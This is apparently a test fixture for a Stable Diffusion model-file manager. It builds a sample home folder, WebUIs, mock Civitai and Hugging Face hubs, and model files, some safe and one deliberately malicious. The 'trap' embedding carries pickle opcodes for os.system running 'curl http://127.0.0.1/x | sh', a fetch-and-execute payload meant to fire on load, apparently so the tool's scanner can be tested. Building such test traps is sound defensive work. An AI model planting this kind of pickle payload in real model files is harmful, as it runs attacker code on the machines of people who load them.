"""The little world in which the commands of the pages run: a home folder, two WebUIs, a few files, and both hubs."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import torch
from safetensors.torch import save

from sdkeep.demo.civitai import SampleCivitai
from sdkeep.demo.civitai_records import SampleFile, SampleVersion, sample_files, sample_model
from sdkeep.demo.huggingface import SampleHuggingFace, SampleRepo
from sdkeep.demo.server import SampleServer
from tests.makers.headers import Header, layers, lora, vae
from tests.makers.torchfiles import mapping, pickled, saved, storage, tensor, text, torch_zip
from tests.makers.webuis import make_webui

CALL = b"cos\nsystem\n" + text("curl http://127.0.0.1/x | sh") + b"\x85R"
"""`os.system(...)`, as opcodes that nothing here ever runs."""


def weights(header: Header, fill: float) -> dict[str, torch.Tensor]:
    """Half-precision tensors of these shapes."""
    return {name: torch.full(shape, fill, dtype=torch.float16) for name, shape in header.items()}


def embedding(name: str) -> bytes:
    """A textual inversion as AUTOMATIC1111 saves it: a pickle."""
    vectors = torch.full((4, 768), 0.25)
    return saved({"string_to_token": {"*": 265}, "string_to_param": {"*": vectors}, "name": name, "step": 500})


def trap() -> bytes:
    """A textual inversion with honest vectors, and a call that runs when something loads it."""
    vectors = tensor(storage("0", numel=4 * 768), (4, 768), (768, 1))
    whole = mapping(string_to_param=mapping(**{"*": vectors}), name=CALL)
    return torch_zip(pickled(whole), storages=(b"\0" * 4 * 4 * 768,))


def homemade() -> bytes:
    """Weights beside the options of somebody's own trainer, as an object of a class that no policy can know."""
    good = tensor(storage("0", numel=16), (4, 4), (4, 1))
    return torch_zip(pickled(mapping(weight=good, options=b"cacme.nets\nOptions\n)\x81")), storages=(b"\0" * 64,))


CASTLE = [
    SampleVersion(
        40212,
        "v2 XL",
        "SDXL 1.0",
        [SampleFile(402121, "castle_nights_xl.safetensors", save(weights(lora(layers("sdxl"), 8), 0.5)))],
        words=["castle nights, moonlit"],
    ),
    SampleVersion(
        40211,
        "v1",
        "SD 1.5",
        [SampleFile(402111, "castle_nights.safetensors", save(weights(lora(layers("sd1"), 8), 0.25)))],
        words=["castle nights"],
    ),
]
NEGATIVE = [
    SampleVersion(
        41001, "v1", "SD 1.5", [SampleFile(410011, "ink-negative.pt", embedding("ink-negative"), format="PickleTensor")]
    )
]
CHARM = [SampleVersion(66601, "v1", "SD 1.5", [SampleFile(666011, "lucky-charm.pt", trap(), format="PickleTensor")])]
RECORDS = [
    sample_model(4021, "Castle Nights", "LORA", CASTLE, creator={"username": "ada"}, tags=["castle", "night"]),
    sample_model(4100, "Ink Negative", "TextualInversion", NEGATIVE, creator={"username": "ada"}, tags=["negative"]),
    sample_model(6660, "Lucky Charm", "TextualInversion", CHARM, creator={"username": "mallory"}),
]
FILES = sample_files([*CASTLE, *NEGATIVE, *CHARM])
REPOS = {
    "ada/soft-vae": SampleRepo(
        files={"soft-vae.safetensors": save(weights(vae(), 0.125)), "README.md": b"# Soft VAE"},
        tags=("stable-diffusion",),
        card={"license": "mit"},
        downloads=120,
    )
}


def furnish(home: Path) -> None:
    """What lies in the home folder before the first command."""
    make_webui(home / "stable-diffusion-webui", "a1111")
    make_webui(home / "ComfyUI", "comfyui")
    (home / "painter" / "painter").mkdir(parents=True)
    (home / "painter" / "painter" / "__main__.py").touch()
    (home / "homemade.pt").write_bytes(homemade())
    downloads = home / "downloads"
    downloads.mkdir()
    (downloads / "ink-negative.pt").write_bytes(embedding("ink-negative"))
    (downloads / "lucky-charm.pt").write_bytes(trap())
    (downloads / "soft-vae.pt").write_bytes(saved(weights(vae(), 0.125)))


@contextmanager
def hubs() -> Iterator[str]:
    """Both hubs at one address."""
    with SampleServer() as server:
        server.route(SampleCivitai(RECORDS, FILES).handle)
        server.route(SampleHuggingFace(REPOS, {}).handle)
        yield server.url
